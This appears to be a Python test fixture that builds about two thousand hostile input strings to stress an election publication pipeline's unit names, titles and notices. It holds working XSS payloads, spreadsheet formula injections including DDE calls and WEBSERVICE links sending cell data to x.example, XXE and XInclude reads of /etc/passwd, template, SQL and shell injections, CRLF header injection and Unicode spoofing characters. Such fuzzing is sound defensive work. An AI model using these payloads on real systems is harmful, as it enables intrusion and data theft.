"""Two thousand texts that somebody might type to have them run: by a browser, a spreadsheet, a printer or a terminal.

Made from our own seeds. In a browser each script calls `pwn()`, which a test defines and which must never be called.
"""

from collections.abc import Sequence
from dataclasses import replace
from functools import cache
from itertools import product

from analysis.release.edition import Edition
from questionnaires.model import Text

_CALLS = ("pwn()", "pwn``", "window['pwn']()", "top.pwn(1)", "setTimeout('pwn()')", "eval('pw'+'n()')", "&#112;wn()")
_TAGS = (
    "<script>{0}</script>",
    "<ScRiPt >{0}</sCrIpT>",
    "<script\n>{0}</script\n>",
    "<script src='data:text/javascript,{0}'></script>",
    "<img src=x onerror={0}>",
    "<img src=x onerror='{0}'>",
    "<image/src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg/onload={0}//",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<body onload={0}>",
    "<iframe src=javascript:{0}>",
    "<iframe srcdoc='<script>parent.{0}</script>'>",
    "<object data='javascript:{0}'>",
    "<embed src='javascript:{0}'>",
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}>",
    "<textarea autofocus onfocus={0}>",
    "<video><source onerror={0}></video>",
    "<audio src=x onerror={0}>",
    "<math href='javascript:{0}'>x</math>",
    "<a href='javascript:{0}' autofocus onfocus={0}>x</a>",
    "<form action='javascript:{0}'><button>x</button></form>",
    "<button formaction='javascript:{0}'>x</button>",
    "<meta http-equiv=refresh content='0;javascript:{0}'>",
    "<link rel=stylesheet href='data:text/css,*{{}}' onload={0}>",
    "<style onload={0}></style>",
    "<base href='javascript:{0}//'>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<template><script>{0}</script></template><img src onerror={0}>",
    "<p onmouseover={0} style='position:fixed;inset:0'>x</p>",
    "<x contenteditable autofocus tabindex=0 onfocus={0}>",
    "<marquee onstart={0}>x</marquee>",
    '" autofocus onfocus={0} x="',
    "' autofocus onfocus={0} x='",
    "` onmouseover={0} ",
    "javascript:{0}",
    "java\tscript:{0}",
    "data:text/html,<script>{0}</script>",
    "{{{{constructor.constructor('{0}')()}}}}",
    "${{{0}}}",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "%3Cscript%3E{0}%3C/script%3E",
    "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
)
_BREAKS = ("", '">', "'>", "-->", "</textarea>", "</title></option></select>")
_BEGINNINGS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\N{NO-BREAK SPACE}=",
    "\u200b=",
    "\ufeff=",
    "＝",
    "＋",
    "＠",
    "|",
)
_FORMULAS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"xem")',
    "SUM(1,1)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    'WEBSERVICE("http://x.example/"&A1)',
    'DDE("cmd";"/C calc";"x")',
    "'file:///etc/passwd'#$passwd.A1",
    "A1:A9",
    "2026-11-23",
    "0203 000 000",
    "#REF!",
)
_OTHERS = (
    "%PDF-1.7 1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
    ") Tj ET /JS (app.alert\\(1\\)) BT (",
    "<</URI(http://x.example)>>",
    "\\input{/etc/passwd}",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "]]><![CDATA[<script>pwn()</script>",
    "<xi:include href='file:///etc/passwd' parse='text'/>",
    "@import 'http://x.example/x.css';",
    "}} body{background:url(http://x.example/x)}",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
    "{{ config }}",
    "%(password)s %s %n {0.__class__}",
    "'; DROP TABLE ballot; --",
    "' OR '1'='1",
    "$(touch x)`touch x`;|touch x",
    "../../../../etc/passwd\x00.csv",
    '{"a": 1, "__proto__": {"x": 1}}',
    "\x1b]0;x\x07\x1b[31m\x1b[2J",
    "\r\nSet-Cookie: x=1\r\n\r\n<script>pwn()</script>",
)
# Letters that turn, hide, pile up or stand for nothing.
_SIGNS = (
    "\u202e",
    "\u2066",
    "\u200b",
    "\u200d",
    "\u2060",
    "\ufeff",
    "\u0000",
    "\u0008",
    "\u001b",
    "\u0085",
    "\u2028",
    "\u0338",
    "\ufffe",
)
_PLACES = (
    "{0}Phường A",
    "Phường{0} A",
    "Phường A{0}",
    "{0}",
    "{0}=1+1",
    "<{0}script>pwn()</{0}script>",
    "<img src=x onerror{0}=pwn()>",
)
_LONG = (
    "x" * 20_000,
    "<" * 5_000,
    "\u0301" * 3_000,
    "a\u0336" * 3_000,
    "\U0001f468\u200d" * 2_000,
    "=" * 9_000,
    "<b>" * 4_000,
)


@cache
def hostile_texts() -> tuple[str, ...]:
    """The corpus: at least two thousand texts, no two alike, in an order that never changes."""
    scripts = (before + tag.format(call) for call, tag, before in product(_CALLS, _TAGS, _BREAKS))
    formulas = (before + formula for before, formula in product(_BEGINNINGS, _FORMULAS))
    signs = (place.format(sign) for sign, place in product(_SIGNS, _PLACES))
    return tuple(dict.fromkeys((*scripts, *formulas, *_OTHERS, *signs, *_LONG)))


def named(texts: Sequence[str], number: int, count: int) -> str:
    """The texts that fall to one of so many names, one after the other."""
    return " ".join(texts[number::count])


def with_hostile_words(edition: Edition) -> Edition:
    """The edition with hostile names of units and bloc, and a hostile title and notice."""
    texts = hostile_texts()
    n_units = len(edition.units)
    units = tuple(
        replace(
            unit,
            name=Text(named(texts[::2], place, n_units), named(texts[1::2], place, n_units)),
            bloc_name=texts[0],
            bloc_name_en=texts[2],
        )
        for place, unit in enumerate(edition.units)
    )
    facts = replace(
        edition.facts,
        title=Text(texts[3], texts[4]),
        issuer=Text(texts[5], texts[6]),
        decision=texts[7],
        hotline=texts[8],
    )
    return replace(edition, units=units, facts=facts)
